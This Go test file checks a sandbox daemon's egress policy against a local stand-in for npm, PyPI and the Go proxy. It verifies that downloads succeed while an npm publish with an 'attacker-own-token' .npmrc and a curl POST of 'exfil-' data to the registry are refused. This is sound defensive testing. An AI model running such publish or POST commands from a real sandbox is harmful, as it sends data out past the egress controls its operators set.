package daemon_test

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/rand"
	"crypto/sha1"
	"crypto/sha256"
	"crypto/sha512"
	"crypto/tls"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"

	v1 "github.com/moatdev/moat/api/v1"
	"github.com/moatdev/moat/internal/daemon"
	"github.com/moatdev/moat/internal/testutil"
)

// registryHosts are the real registry names the stand-in answers for.
var registryHosts = []string{"registry.npmjs.org", "pypi.org", "files.pythonhosted.org", "proxy.golang.org"}

// registryStandIn is one HTTPS server on port 443 of a random loopback address, named as
// the public package registries through the daemon's pinned hosts: npm (package
// document, tarball, publish), PyPI (simple index, wheel) and the Go module proxy. It
// logs every request it receives ("METHOD host path").
type registryStandIn struct {
	addr   netip.Addr
	caFile string
	log    *netLog
	files  map[string][]byte // by host+path
}

func newRegistryStandIn(t *testing.T) *registryStandIn {
	t.Helper()
	r := &registryStandIn{log: &netLog{}, files: map[string][]byte{}}
	up := testutil.NewUpstreamCA(t, registryHosts...)
	r.caFile = filepath.Join(t.TempDir(), "registry-ca.pem")
	if err := os.WriteFile(r.caFile, up.PEM, 0o644); err != nil {
		t.Fatal(err)
	}
	// Port 443, as the registries set names it, on an address no other test uses.
	var ln net.Listener
	for range 20 {
		var b [3]byte
		rand.Read(b[:])
		r.addr = netip.AddrFrom4([4]byte{127, 100 + b[0]%100, b[1], 1 + b[2]%250})
		var err error
		if ln, err = net.Listen("tcp4", netip.AddrPortFrom(r.addr, 443).String()); err == nil {
			break
		}
	}
	if ln == nil {
		t.Fatal("no free loopback address for port 443")
	}

	// npm: moat-tiny@1.0.0.
	tgz := npmTarball(t, `{"name":"moat-tiny","version":"1.0.0","main":"index.js"}`, "module.exports = 'tiny';\n")
	sha1sum := sha1.Sum(tgz)
	sha512sum := sha512.Sum512(tgz)
	r.files["registry.npmjs.org/moat-tiny/-/moat-tiny-1.0.0.tgz"] = tgz
	r.files["registry.npmjs.org/moat-tiny"] = []byte(fmt.Sprintf(`{"name":"moat-tiny","dist-tags":{"latest":"1.0.0"},"versions":{"1.0.0":{"name":"moat-tiny","version":"1.0.0","main":"index.js",`+
		`"dist":{"tarball":"https://registry.npmjs.org/moat-tiny/-/moat-tiny-1.0.0.tgz","shasum":"%x","integrity":"sha512-%s"}}}}`,
		sha1sum, base64.StdEncoding.EncodeToString(sha512sum[:])))
	// PyPI: moat-tiny 1.0, a wheel.
	whl := wheel(t)
	whlSum := sha256.Sum256(whl)
	r.files["files.pythonhosted.org/packages/00/11/moat_tiny-1.0-py3-none-any.whl"] = whl
	r.files["pypi.org/simple/moat-tiny/"] = []byte(fmt.Sprintf(`<!DOCTYPE html><html><body>`+
		`<a href="https://files.pythonhosted.org/packages/00/11/moat_tiny-1.0-py3-none-any.whl#sha256=%s">moat_tiny-1.0-py3-none-any.whl</a>`+
		`</body></html>`, hex.EncodeToString(whlSum[:])))
	// Go: example.test/tiny v1.0.0.
	mod := "module example.test/tiny\n\ngo 1.20\n"
	r.files["proxy.golang.org/example.test/tiny/@v/list"] = []byte("v1.0.0\n")
	r.files["proxy.golang.org/example.test/tiny/@v/v1.0.0.info"] = []byte(`{"Version":"v1.0.0","Time":"2024-01-01T00:00:00Z"}`)
	r.files["proxy.golang.org/example.test/tiny/@v/v1.0.0.mod"] = []byte(mod)
	r.files["proxy.golang.org/example.test/tiny/@v/v1.0.0.zip"] = goModuleZip(t, "example.test/tiny@v1.0.0", map[string]string{
		"go.mod": mod, "tiny.go": "package tiny\n\nconst Name = \"tiny\"\n",
	})

	srv := &http.Server{
		TLSConfig: &tls.Config{Certificates: []tls.Certificate{up.Cert}},
		Handler: http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
			host, _, _ := strings.Cut(req.Host, ":")
			r.log.add("%s %s %s", req.Method, host, req.URL.Path)
			if req.Method != http.MethodGet && req.Method != http.MethodHead {
				io.Copy(io.Discard, req.Body)
				w.Header().Set("Content-Type", "application/json")
				io.WriteString(w, `{"ok":true}`)
				return
			}
			body, ok := r.files[host+req.URL.Path]
			if !ok {
				http.NotFound(w, req)
				return
			}
			switch {
			case host == "registry.npmjs.org" && !strings.HasSuffix(req.URL.Path, ".tgz"):
				w.Header().Set("Content-Type", "application/json")
			case host == "pypi.org":
				w.Header().Set("Content-Type", "text/html")
			default:
				w.Header().Set("Content-Type", "application/octet-stream")
			}
			w.Write(body)
		}),
	}
	go srv.ServeTLS(ln, "", "")
	t.Cleanup(func() { srv.Close() })
	return r
}

// configure pins the registry names to the stand-in and makes the proxy trust its CA.
func (r *registryStandIn) configure(c *daemon.Config) {
	for _, h := range registryHosts {
		c.EgressHosts[h] = []netip.Addr{r.addr}
	}
	c.EgressCA = r.caFile
}

// npmTarball is an npm package tarball (package/package.json, package/index.js).
func npmTarball(t *testing.T, pkgJSON, index string) []byte {
	t.Helper()
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	for name, body := range map[string]string{"package/package.json": pkgJSON, "package/index.js": index} {
		tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg})
		io.WriteString(tw, body)
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := gz.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// wheel is a minimal pure-Python wheel of moat-tiny 1.0.
func wheel(t *testing.T) []byte {
	t.Helper()
	files := map[string]string{
		"moat_tiny/__init__.py":                 "NAME = 'tiny'\n",
		"moat_tiny-1.0.dist-info/METADATA":      "Metadata-Version: 2.1\nName: moat-tiny\nVersion: 1.0\n",
		"moat_tiny-1.0.dist-info/WHEEL":         "Wheel-Version: 1.0\nGenerator: moat-test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
		"moat_tiny-1.0.dist-info/top_level.txt": "moat_tiny\n",
	}
	var record strings.Builder
	for name, body := range files {
		sum := sha256.Sum256([]byte(body))
		fmt.Fprintf(&record, "%s,sha256=%s,%d\n", name, base64.RawURLEncoding.EncodeToString(sum[:]), len(body))
	}
	record.WriteString("moat_tiny-1.0.dist-info/RECORD,,\n")
	files["moat_tiny-1.0.dist-info/RECORD"] = record.String()
	return zipOf(t, "", files)
}

// goModuleZip is a module zip as the Go module proxy serves it: every file under
// "path@version/".
func goModuleZip(t *testing.T, prefix string, files map[string]string) []byte {
	t.Helper()
	return zipOf(t, prefix+"/", files)
}

func zipOf(t *testing.T, prefix string, files map[string]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for name, body := range files {
		w, err := zw.Create(prefix + name)
		if err != nil {
			t.Fatal(err)
		}
		io.WriteString(w, body)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// TestRegistriesReadOnly: in a setup phase that allows the built-in registries set,
// real package managers download through moat's TLS interception (npm install, pip
// download, go mod download: GET), while a publish (npm publish's PUT, a POST) is
// refused before it reaches the registry — absent from the stand-in's log, refused in the
// egress log. With registries-publish, the same publish goes through.
func TestRegistriesReadOnly(t *testing.T) {
	in := newInternet(t)
	reg := newRegistryStandIn(t)
	e := newEnvWith(t, func(c *daemon.Config) { in.configure(c); reg.configure(c) })
	ctx := context.Background()
	setup := func(allow ...string) *v1.Policy {
		return &v1.Policy{Phase: "setup", Phases: map[string]v1.PolicyRules{"setup": {Allow: allow}, "run": {}}}
	}
	for _, rt := range runtimesUnderTest(t) {
		e.run(rt, func(t *testing.T, e *env) {
			sb := e.create(v1.CreateSandboxRequest{Runtime: rt, Policy: setup("registries")})

			// The trust variables every client reads point at moat's CA.
			env := e.mustSh(sb.ID, "env")
			for _, v := range []string{"SSL_CERT_FILE=/etc/moat/ca-bundle.pem", "REQUESTS_CA_BUNDLE=/etc/moat/ca-bundle.pem",
				"CURL_CA_BUNDLE=/etc/moat/ca-bundle.pem", "GIT_SSL_CAINFO=/etc/moat/ca-bundle.pem", "PIP_CERT=/etc/moat/ca-bundle.pem",
				"CARGO_HTTP_CAINFO=/etc/moat/ca-bundle.pem", "NPM_CONFIG_CAFILE=/etc/moat/ca-bundle.pem", "NODE_EXTRA_CA_CERTS=/etc/moat/ca.pem"} {
				if !strings.Contains(env, "\n"+v+"\n") && !strings.HasPrefix(env, v+"\n") {
					t.Errorf("the sandbox's environment lacks %s", v)
				}
			}

			// Downloads work, with the trust variables the sandbox has.
			check := func(what, line string) {
				t.Helper()
				if r := e.sh(sb.ID, "", line); r.code != 0 {
					t.Errorf("%s: exit %d\n%s%s", what, r.code, r.stdout, r.stderr)
				}
			}
			check("npm install", `set -e; rm -rf /tmp/npm && mkdir -p /tmp/npm && cd /tmp/npm && echo '{}' > package.json
npm install --no-audit --no-fund --no-update-notifier moat-tiny 2>&1
node -e 'if (require("moat-tiny") !== "tiny") process.exit(1)'`)
			// (pip checks the wheel's hash against the index; under gVisor 2022 a stat of
			// the saved file can fail with EINVAL, so pip's word is taken.)
			check("pip download", `python3 -m pip download --no-cache-dir --disable-pip-version-check --no-deps --dest /tmp/pipd moat-tiny 2>&1 | grep "Successfully downloaded moat-tiny"`)
			check("go mod download", `set -e; export GOTOOLCHAIN=local GOSUMDB=off GOFLAGS=-modcacherw GOPATH=/tmp/gopath GOCACHE=/tmp/gocache
/usr/local/go/bin/go mod download -json example.test/tiny@v1.0.0 | grep -q '"Zip"'
grep -q 'Name = "tiny"' /tmp/gopath/pkg/mod/example.test/tiny@v1.0.0/tiny.go`)
			for _, want := range []string{
				"GET registry.npmjs.org /moat-tiny", "GET registry.npmjs.org /moat-tiny/-/moat-tiny-1.0.0.tgz",
				"GET pypi.org /simple/moat-tiny/", "GET files.pythonhosted.org /packages/00/11/moat_tiny-1.0-py3-none-any.whl",
				"GET proxy.golang.org /example.test/tiny/@v/v1.0.0.zip",
			} {
				if !reg.log.contains(want) {
					t.Errorf("the stand-in did not serve %q: %v", want, reg.log.all())
				}
			}

			// Publishing is refused before the registry sees it. The publishing clients
			// trust the stand-in's CA as well as moat's, as a real client trusts the real
			// registry's certificate: without inspection their requests would reach it.
			ca, err := os.ReadFile(reg.caFile)
			if err != nil {
				t.Fatal(err)
			}
			e.mustSh(sb.ID, "cat /etc/moat/ca-bundle.pem > /tmp/trust.pem && cat >> /tmp/trust.pem <<'EOF'\n"+string(ca)+"EOF")
			publish := `set -e; rm -rf /tmp/pub && mkdir -p /tmp/pub && cd /tmp/pub
echo '{"name":"moat-leak-` + rt + `","version":"1.0.0"}' > package.json
echo "//registry.npmjs.org/:_authToken=attacker-own-token" > .npmrc
NPM_CONFIG_CAFILE=/tmp/trust.pem npm publish --no-update-notifier --registry https://registry.npmjs.org/ 2>&1`
			if r := e.sh(sb.ID, "", publish); r.code == 0 {
				t.Errorf("npm publish succeeded in the read-only setup phase: %s", r.stdout)
			}
			post := `curl -sS --cacert /tmp/trust.pem --max-time 10 -o /dev/null -w '%{http_code}' -X POST -d exfil-` + rt + ` https://registry.npmjs.org/-/v1/login`
			if got := strings.TrimSpace(e.mustSh(sb.ID, post+"; true")); got != "403" {
				t.Errorf("POST to the registry: status %s, want 403", got)
			}
			for _, s := range reg.log.all() {
				if strings.HasPrefix(s, "PUT ") || strings.HasPrefix(s, "POST ") {
					t.Errorf("the registry received %q in the read-only setup phase", s)
				}
			}
			e.expectBlocked(sb.ID, "npm publish", func(x v1.EgressEntry) bool {
				return x.Proto == "http" && x.Name == "registry.npmjs.org" && x.Phase == "setup" &&
					strings.Contains(x.Reason, "PUT /moat-leak-"+rt) && strings.Contains(x.Reason, "registries-publish")
			})

			// The explicit opt-in lets the same publish through.
			if _, err := e.c.SetPolicy(ctx, sb.ID, v1.SetPolicyRequest{Policy: setup("registries", "registries-publish")}); err != nil {
				t.Fatal(err)
			}
			if r := e.sh(sb.ID, "", publish); r.code != 0 || !reg.log.contains("PUT registry.npmjs.org /moat-leak-"+rt) {
				t.Errorf("npm publish with registries-publish: exit %d %s; registry log %v", r.code, r.stdout, reg.log.all())
			}
			if got := strings.TrimSpace(e.mustSh(sb.ID, post+"; true")); got != "200" || !reg.log.contains("POST registry.npmjs.org /-/v1/login") {
				t.Errorf("POST with registries-publish: status %s", got)
			}
			if err := e.c.Delete(ctx, sb.ID); err != nil {
				t.Error(err)
			}
			reg.log = &netLog{} // the next runtime starts with an empty log
		})
	}
}
